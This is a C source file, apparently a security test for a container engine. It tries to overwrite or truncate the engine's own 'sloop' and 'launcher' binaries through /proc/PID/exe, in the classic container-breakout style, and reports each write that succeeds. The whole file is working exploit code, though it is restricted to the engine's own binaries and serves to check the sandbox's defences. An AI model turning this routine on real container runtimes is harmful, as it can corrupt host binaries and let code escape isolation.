// Looks for programs of the engine that show up in this pid namespace, and tries to write into them by /proc/PID/exe.
// Ends after the given seconds; prints "WROTE name" for each success and "seen N" at the end.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int seen;

// Nothing else on the machine may ever be harmed by this test.
static int is_target(const char *name) {
  return strstr(name, "sloop") != NULL || strstr(name, "launcher") != NULL;
}

static void attack(const char *pid) {
  char path[300], name[512], reopened[64];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  ssize_t length = readlink(path, name, sizeof name - 1);
  if (length < 0) return;
  name[length] = 0;
  if (!is_target(name)) return;
  int held = open(path, O_PATH);
  if (held < 0) return;
  seen++;
  snprintf(reopened, sizeof reopened, "/proc/self/fd/%d", held);
  // Text is busy while it runs: the classic attack waits until it does not.
  for (int tries = 0; tries < 200; tries++) {
    int file = open(reopened, O_WRONLY);
    if (file < 0) continue;
    if (write(file, "#!/evil\n", 8) > 0) printf("WROTE %s\n", name);
    close(file);
    break;
  }
  if (truncate(reopened, 0) == 0) printf("WROTE %s\n", name);
  close(held);
}

int main(int count, char **words) {
  time_t end = time(NULL) + (count > 1 ? atoi(words[1]) : 1);
  while (time(NULL) < end) {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(processes)) != NULL;)
      if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && atoi(entry->d_name) != getpid()) attack(entry->d_name);
    closedir(processes);
  }
  printf("seen %d\n", seen);
  return 0;
}
